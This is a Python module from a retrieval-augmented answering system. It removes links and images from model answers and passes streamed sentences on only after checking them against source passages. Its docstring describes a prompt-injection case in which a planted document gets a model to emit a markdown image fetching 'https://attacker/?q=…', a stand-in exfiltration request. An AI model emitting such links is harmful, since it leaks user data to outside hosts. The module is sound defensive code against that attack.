"""What an answer may never carry: links and images pointing outside, whoever wrote them.

A planted document can ask a model to emit `![](https://attacker/?q=…)`, which a markdown viewer
would fetch. Answers (the text and the quotes) therefore hold no URL and no image; the passage a
citation points at keeps its text as written, shown as plain text.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from rag.answer.citations import passage_evidence, split_sentences, verify
from rag.schema import Answer, Passage

LINK_REMOVED = "[link removed]"

_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)|<img\b[^>]*>?", re.IGNORECASE)
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*(?:[a-z][a-z0-9+.-]*:|//|www\.)[^)\n]*\)", re.IGNORECASE)
_URL = re.compile(
    r"(?:(?<![a-z0-9+.-])[a-z][a-z0-9+.-]*://|(?<![a-z0-9.])www\.|(?<![\w/:])//(?=[\w-]+\.)|(?<![a-z])data:[a-z]+/)"
    r"[A-Za-z0-9._~:/?#@!$&*+,;=%-]*",
    re.IGNORECASE,
)


def without_links(text: str) -> str:
    """`text` with images removed and every URL replaced by "[link removed]" (link labels kept).

    Example:
        >>> without_links("见 ![x](https://a.example/p.png) [官网](https://a.example) https://b.example/?q=1。")
        '见  官网 [link removed]。'
    """
    if not text:
        return text
    text = _IMAGE.sub("", text)
    text = _MD_LINK.sub(r"\1", text)
    return _URL.sub(_replace, text)


def _replace(match: re.Match[str]) -> str:
    url = match.group(0)
    body = url.rstrip(".,;:!?")  # sentence punctuation after a URL stays
    return LINK_REMOVED + url[len(body) :]


def safe_answer(answer: Answer) -> Answer:
    """The answer with links and images taken out of its text and quotes (in place, and returned)."""
    answer.text = without_links(answer.text)
    for citation in answer.citations:
        citation.quote = without_links(citation.quote)
    answer.unsupported = [without_links(s) for s in answer.unsupported]
    return answer


class VerifiedStream:
    """Lets a streamed reply through sentence by sentence, each one only once it is whole (its citation
    markers included) and checked against the passages: nothing unsupported or planted reaches the
    screen, not even for the moment before the whole answer is verified. (Links are taken out of
    every piece by the assistant, which sees whole sentences here.)"""

    def __init__(self, passages: Sequence[Passage]) -> None:
        self.passages = passages
        self.evidence = passage_evidence(passages)  # once for every sentence, and the final check
        self.raw = ""
        self.done = 0  # characters of `raw` already decided on

    def feed(self, piece: str) -> str:
        """The checked text that may be shown now ("" while the sentence is still being written)."""
        self.raw += piece
        spans = split_sentences(self.raw[self.done :])
        if len(spans) < 2:  # the last sentence may still grow, or get its markers
            return ""
        return self._release(self.done + spans[-1][0])

    def close(self) -> str:
        """The rest, once the reply is complete."""
        return self._release(len(self.raw))

    def _release(self, upto: int) -> str:
        text, self.done = self.raw[self.done : upto], upto
        shown: list[str] = []
        for start, end in split_sentences(text):
            sentence = text[start:end]
            checked = verify(sentence, self.passages, drop_unsupported=True, evidence=self.evidence)
            if checked.supported == checked.claims:
                shown.append(sentence)
        return "".join(shown)
